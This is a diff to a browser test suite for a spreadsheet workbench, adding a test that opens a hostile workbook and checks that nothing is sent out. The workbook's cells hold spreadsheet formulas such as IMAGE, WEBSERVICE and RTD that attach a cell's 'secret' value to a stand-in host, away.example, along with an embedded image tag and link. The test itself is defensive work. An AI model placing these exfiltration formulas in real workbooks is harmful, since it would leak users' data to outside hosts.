@@ -1230,8 +1230,51 @@ describe.skipIf(browserPath() === "")("workbench", () => {
     }
   });
 
+  test("a stranger's workbook sends nothing out, whatever its cells ask for", async () => {
+    const away = "https://away.example/take?d=";
+    const hostile = [
+      `IMAGE("${away}"&A1)`,
+      `IMAGE("${away}"&A1,"a picture",1)`,
+      `WEBSERVICE("${away}"&A1)`,
+      `FILTERXML(WEBSERVICE("${away}"&A1),"//a")`,
+      `RTD("away.example",,A1)`,
+      `HYPERLINK("${away}"&A1,"more")`,
+      `IRON.ECHO_AWAY("${away}"&A1)`,
+    ];
+    const before = w.outside.length;
+    const cells = [
+      { row: 0, column: 0, value: "secret" },
+      { row: 0, column: 3, value: `<img src="${away}text">` },
+      { row: 1, column: 3, value: "a link", link: `${away}link` },
+      ...hostile.map((formula, row) => ({ row, column: 1, formula })),
+      { row: 0, column: 2, formula: "LEN(A1)" },
+    ];
+    await open(await writeWorkbook({ sheets: [{ name: "Gift", cells }] }));
+    await w.until("Gift!C1", 6);
+    const shown = (await w.values(`Gift!B1:B${hostile.length}`)).map(([cell]) => cell);
+    expect(shown).toEqual(["#NAME?", "#NAME?", "#NAME?", "#NAME?", "#NAME?", "more", "#NAME?"]);
+    // and were some part of the grid to ask all the same, the page's policy holds
+    const asked = await w.page.evaluate(async (address) => {
+      const image = new Image();
+      const drawn = new Promise((done) => {
+        image.onload = () => done("drawn");
+        image.onerror = () => done("refused");
+      });
+      image.src = address;
+      return [
+        await fetch(address).then(
+          () => "answered",
+          () => "refused",
+        ),
+        await drawn,
+      ];
+    }, `${away}page`);
+    expect(asked).toEqual(["refused", "refused"]);
+    expect(w.outside.slice(before)).toEqual([]);
+  });
+
   test("nothing left this machine, nothing was complained of", () => {
     expect(w.outside).toEqual([]);
-    expect(w.problems.filter((p) => !/Applying inline style|unreadable/.test(p) && !LEFT_OVER.test(p))).toEqual([]);
+    expect(w.problems.filter((p) => !/Applying inline style|unreadable|away\.example/.test(p) && !LEFT_OVER.test(p))).toEqual([]);
   });
 });
